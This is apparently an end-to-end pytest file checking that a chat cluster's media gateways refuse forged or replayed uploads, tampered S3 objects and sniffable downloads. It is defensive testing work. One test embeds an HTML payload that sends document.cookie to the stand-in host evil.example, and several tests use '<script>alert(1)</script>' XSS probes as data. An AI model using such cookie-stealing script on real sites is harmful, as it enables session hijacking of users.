"""Media on the cluster family: upload slots are presigned POSTs to the gateways' media
ports, which check them and write the object to S3Proxy (the region's `s3` engine)
themselves; `send` checks the object with HeadObject and signs a download URL pinned to
its ETag and type; each gateway process serves downloads on its own media port, streamed
from S3.

S3Proxy 2.6.0 checks nothing of a POST policy but its signature (not the key, type, size
or expiry), so no client is ever given a POST to S3: the tests below show a member's
attempts to write another member's media (or to replay a slot) refused, and an object
replaced behind the gateways' back never served."""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from runtime.core import media as m
from tests import engines
from tests.conftest import Deployment, msgctl
from tests.e2e.test_media import (
    PNG,
    Refuse,
    check_download_refusals,
    check_send_refusals,
    get,
    slot,
    still_open,
    uid,
)
from tests.wsclient import Client

pytestmark = pytest.mark.e2e

BUCKET = "msgctl-media"


async def post(url: str, fields: dict[str, str], data: bytes,
               file_type: str = "application/octet-stream") -> tuple[int, str]:
    """The presigned POST as browsers, httpx and `msgctl media upload` send it (S3Proxy's
    parser, should a form reach it, answers 400 to aiohttp's FormData)."""
    async with httpx.AsyncClient(timeout=60) as http:
        resp = await http.post(url, data=fields, files={"file": ("blob", data, file_type)})
        return resp.status_code, resp.text


async def uploaded(c: Client, data: bytes = PNG, **kw: Any) -> dict[str, Any]:
    reply = await slot(c, size=len(data), **kw)
    status, body = await post(reply["upload"]["url"], reply["upload"]["fields"], data)
    assert status == 204, body
    return reply


def s3_url(dep: Deployment) -> str:
    """The bucket on S3Proxy (https only with engine TLS; its CA is the session's, which
    SSL_CERT_FILE trusts)."""
    return f"{engines.s3_endpoint(dep.home, dep.port + 26)[0]}/{BUCKET}"


def media_port(dep: Deployment, n: int = 1) -> str:
    """gateway-n's media port (the gateway port + 26 + n), in the deployment's scheme."""
    return f"{dep.http_url.split('://')[0]}://127.0.0.1:{dep.port + 26 + n}"


async def test_cluster_upload_send_deliver_download(cluster_deployment: Deployment) -> None:
    dep = cluster_deployment
    alice, bob = uid("alice"), uid("bob")
    a = await Client.open(dep.gateway_url(0), dep.token(alice, "phone"))
    a2 = await Client.open(dep.gateway_url(1), dep.token(alice, "laptop"))
    b = await Client.open(dep.gateway_url(1), dep.token(bob, "phone"))
    conv = (await a.create([bob]))["conv"]
    reply = await slot(a)
    up, media = reply["upload"], reply["media"]
    # the client POSTs to the gateway's media port, never to S3
    assert up["url"] == f"{media_port(dep)}/v1/blobs"
    fields = up["fields"]
    assert fields["key"] == media["key"] and media["key"].startswith(f"u/{alice}/")
    assert fields["x-amz-algorithm"] == "MSGCTL-HMAC-SHA256" and fields["Content-Type"] == (
        "image/png")
    assert media["url"].startswith(f"{media_port(dep)}/v1/media/")
    status, _ = await post(up["url"], fields, PNG, "image/png")
    assert status == 204
    sent = await a.request({"t": "send", "conv": conv, "cid": "m1", "kind": "image",
                            "body": "look", "media": media})
    assert sent["t"] == "sent", sent
    for device in (b, a2):  # on gateway-2
        msg = (await device.wait_msgs(conv, 1))[0]
        got = msg["media"]
        assert (got["key"], got["content_type"], got["size"]) == (
            media["key"], "image/png", len(PNG))
        # signed once, at send, by the sender's gateway, pinned to the object it checked;
        # every gateway's media port serves it
        assert got["url"].startswith(f"{media_port(dep)}/v1/media/")
        assert "&etag=" in got["url"] and "&type=image%2Fpng" in got["url"]
        status, data, ctype = await get(got["url"])
        assert (status, data, ctype) == (200, PNG, "image/png")
        other = got["url"].replace(f":{dep.port + 27}/", f":{dep.port + 28}/")
        assert (await get(other))[:2] == (200, PNG)
    status, data, _ = await get(media["url"])  # gateway-1's media port serves it too
    assert (status, data) == (200, PNG)
    history = (await b.request({"t": "sync", "conv": conv, "after": 0}))["msgs"]
    assert history[0]["media"]["key"] == media["key"]
    for c in (a, a2, b):
        await c.close()


async def test_cluster_large_file_round_trip(cluster_deployment: Deployment) -> None:
    """10 MB through the gateway's media port into S3Proxy and back, streamed."""
    dep = cluster_deployment
    a = await Client.open(dep.gateway_url(0), dep.token(uid("big")))
    data = os.urandom(10 * 1000 * 1000)
    reply = await slot(a, size=len(data))
    t0 = time.perf_counter()
    status, _ = await post(reply["upload"]["url"], reply["upload"]["fields"], data, "image/png")
    took = time.perf_counter() - t0
    assert status == 204
    print(f"presigned POST of 10 MB via the gateway to S3Proxy: {took:.2f} s, "
          f"{10 / took:.1f} MB/s")
    conv = (await a.create([uid("peer")]))["conv"]
    sent = await a.request({"t": "send", "conv": conv, "cid": "big", "kind": "image",
                            "body": "", "media": reply["media"]})
    assert sent["t"] == "sent", sent
    status, got, _ = await get(reply["media"]["url"])
    assert status == 200 and got == data
    await a.close()


async def test_cluster_send_media_refusals(cluster_deployment: Deployment) -> None:
    dep = cluster_deployment
    a = await Client.open(dep.gateway_url(0), dep.token(uid("alice")))
    b = await Client.open(dep.gateway_url(1), dep.token(uid("bob")))

    async def refused_at_post(refused: Refuse) -> None:
        # what S3Proxy would have stored (it checks no condition) is refused by the
        # gateway at POST, so there is nothing to send
        html = await slot(a)
        status, body = await post(html["upload"]["url"],
                                  html["upload"]["fields"] | {"Content-Type": "text/html"},
                                  b"<script>alert(1)</script>", "text/html")
        assert status == 403 and "Content-Type" in body, body
        await refused({"key": html["media"]["key"]}, "bad_frame", "never uploaded")
        small = await slot(a, size=100)
        ceiling = m.DEFAULT_MAX_BYTES["image"]
        status, body = await post(small["upload"]["url"], small["upload"]["fields"],
                                  b"\0" * (ceiling + 1), "image/png")
        assert status == 400 and "EntityTooLarge" in body, body
        await refused({"key": small["media"]["key"]}, "bad_frame", "never uploaded")

    await check_send_refusals(a, b, uploaded, refused_at_post)
    for c in (a, b):
        await c.close()


async def test_cluster_download_refusals(cluster_deployment: Deployment) -> None:
    dep = cluster_deployment
    c = await Client.open(dep.gateway_url(1), dep.token(uid("d")))
    parts = await check_download_refusals(dep, c, uploaded)
    assert parts.port == dep.port + 28  # gateway-2's own media port
    await c.close()


async def test_cluster_upload_refusals(cluster_deployment: Deployment) -> None:
    dep = cluster_deployment
    c = await Client.open(dep.gateway_url(0), dep.token(uid("r")))
    for frame, code in (
            ({"kind": "image", "content_type": "text/html", "size": 10}, "bad_frame"),
            ({"kind": "image", "content_type": "image/png", "size": 11 * m.MiB}, "too_large")):
        reply = await c.request({"t": "upload", **frame})
        assert reply["t"] == "error" and reply["code"] == code, reply
    await still_open(c)
    await c.close()


async def test_cluster_msgctl_media_upload(cluster_deployment: Deployment,
                                           tmp_path: Path) -> None:
    dep = cluster_deployment
    alice, bob = uid("alice"), uid("bob")
    b = await Client.open(dep.gateway_url(1), dep.token(bob))
    a = await Client.open(dep.gateway_url(0), dep.token(alice))
    conv = (await a.create([bob]))["conv"]
    await a.close()
    photo = tmp_path / "cat.png"
    photo.write_bytes(PNG)
    proc = await asyncio.to_thread(
        msgctl, "media", "upload", str(photo), "--user", alice, "--to", conv, "--text", "cat",
        "--json", "--home", str(dep.home))
    out = json.loads(proc.stdout)
    assert out["media"]["content_type"] == "image/png" and out["sent"]["seq"] == 1
    msg = (await b.wait_msgs(conv, 1))[0]
    assert (await get(msg["media"]["url"]))[1] == PNG
    await b.close()


async def test_cluster_no_member_can_write_another_members_media(
        cluster_deployment: Deployment) -> None:
    """The attack: mallory, a member of the conversation, takes her own upload slot and
    POSTs its fields with alice's key (already sent) and an HTML page, to the slot's URL
    and to the S3 endpoint itself, then alice's slot is replayed with other bytes. Every
    such write is refused and every recipient still downloads alice's PNG, as image/png."""
    dep = cluster_deployment
    alice, mallory, bob = uid("alice"), uid("mallory"), uid("bob")
    a = await Client.open(dep.gateway_url(0), dep.token(alice))
    mal = await Client.open(dep.gateway_url(1), dep.token(mallory))
    b = await Client.open(dep.gateway_url(1), dep.token(bob))
    conv = (await a.create([mallory, bob]))["conv"]
    mine = await uploaded(a)
    sent = await a.request({"t": "send", "conv": conv, "cid": "m1", "kind": "image",
                            "body": "", "media": mine["media"]})
    assert sent["t"] == "sent", sent
    url = (await b.wait_msgs(conv, 1))[0]["media"]["url"]
    assert (await get(url))[:2] == (200, PNG)
    html = b"<html><script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    own = await slot(mal, size=len(html))
    forged = own["upload"]["fields"] | {"key": mine["media"]["key"], "Content-Type": "text/html"}
    attempts = [(own["upload"]["url"], forged, html, "text/html"),
                (s3_url(dep), forged, html, "text/html"),
                # alice's own slot again (a replay): the key is written once
                (mine["upload"]["url"], mine["upload"]["fields"], bytes(reversed(PNG)),
                 "image/png")]
    seen = []  # (where, POST status, then what a recipient downloads)
    for target, fields, data, ctype in attempts:
        status, _ = await post(target, fields, data, ctype)
        got_status, got, got_type = await get(url)
        seen.append((target, status, got_status, got[:40], got_type))
    assert all(status in (400, 403) and tuple(rest) == (200, PNG[:40], "image/png")
               for _, status, *rest in seen), seen
    assert (await get(url))[:3] == (200, PNG, "image/png")
    for c in (a, mal, b):
        await c.close()


def _s3_as_engine(dep: Deployment) -> Any:
    """A client with the S3 engine's own credentials: what any direct S3 writer holds (a
    presigned POST issued before the gateways took uploads over, an operator, a bug)."""
    from msgctl.infra import s3 as s3_infra
    from runtime.media.s3 import s3_client

    conf = next(dep.home.glob("engines/s3.*/conf"))
    identity, credential = s3_infra.credentials(conf)
    url, verify = engines.s3_endpoint(dep.home, dep.port + 26)
    return s3_client(url, identity, credential, s3_infra.REGION, verify=verify)


async def test_cluster_a_replaced_object_is_never_served(
        cluster_deployment: Deployment) -> None:
    """Whatever writes S3 behind the gateways' back, a recipient gets the bytes that were
    sent or nothing: the download URL signed at send pins the object's ETag and type."""
    dep = cluster_deployment
    alice, bob = uid("alice"), uid("bob")
    a = await Client.open(dep.gateway_url(0), dep.token(alice))
    b = await Client.open(dep.gateway_url(1), dep.token(bob))
    conv = (await a.create([bob]))["conv"]
    mine = await uploaded(a)
    sent = await a.request({"t": "send", "conv": conv, "cid": "m1", "kind": "image",
                            "body": "", "media": mine["media"]})
    assert sent["t"] == "sent", sent
    url = (await b.wait_msgs(conv, 1))[0]["media"]["url"]
    assert (await get(url))[:3] == (200, PNG, "image/png")
    s3 = _s3_as_engine(dep)
    key = mine["media"]["key"]
    # the object as stored is sealed (encryption at rest), never the PNG's bytes
    stored = await asyncio.to_thread(s3.get_object, Bucket=BUCKET, Key=key)
    sealed, meta = stored["Body"].read(), stored["Metadata"]
    assert PNG not in sealed and meta["sealed"] and meta["plain-size"] == str(len(PNG))
    # the same bytes relabelled (the same ETag): still the bytes sent, as the type sent
    await asyncio.to_thread(s3.put_object, Bucket=BUCKET, Key=key, Body=sealed,
                            ContentType="text/html", Metadata=meta)
    assert (await get(url))[:3] == (200, PNG, "image/png")
    # the plain bytes written over it: another ETag, so not the object that was sent
    await asyncio.to_thread(s3.put_object, Bucket=BUCKET, Key=key, Body=PNG,
                            ContentType="image/png")
    status, data, _ = await get(url)
    assert status == 404 and b"not the one that was sent" in data, (status, data[:80])
    # other bytes: not the object that was sent, so nothing is served
    await asyncio.to_thread(s3.put_object, Bucket=BUCKET, Key=key,
                            Body=b"<script>alert(1)</script>", ContentType="text/html")
    status, data, _ = await get(url)
    assert status == 404 and b"not the one that was sent" in data, (status, data[:80])
    for c in (a, b):
        await c.close()


async def headers_of(url: str) -> tuple[int, dict[str, str]]:
    async with httpx.AsyncClient(timeout=30) as http:
        resp = await http.get(url)
        return resp.status_code, dict(resp.headers)


async def test_cluster_downloads_are_never_sniffed(cluster_deployment: Deployment) -> None:
    """As on the embedded endpoint: nosniff always; media inline, anything else attachment."""
    dep = cluster_deployment
    c = await Client.open(dep.gateway_url(0), dep.token(uid("h")))
    for kind, ctype, data, disposition in (
            ("image", "image/png", PNG, "inline"),
            ("file", "text/plain", b"<html><script>alert(1)</script>", "attachment"),
            ("file", "application/pdf", b"%PDF-1.4\n", "attachment")):
        reply = await slot(c, kind=kind, ctype=ctype, size=len(data))
        status, body = await post(reply["upload"]["url"], reply["upload"]["fields"], data,
                                  ctype)
        assert status == 204, body
        status, headers = await headers_of(reply["media"]["url"])
        assert status == 200
        assert headers.get("x-content-type-options") == "nosniff", headers
        assert headers.get("content-disposition") == disposition, headers
        assert headers.get("content-type") == ctype, headers
    await c.close()
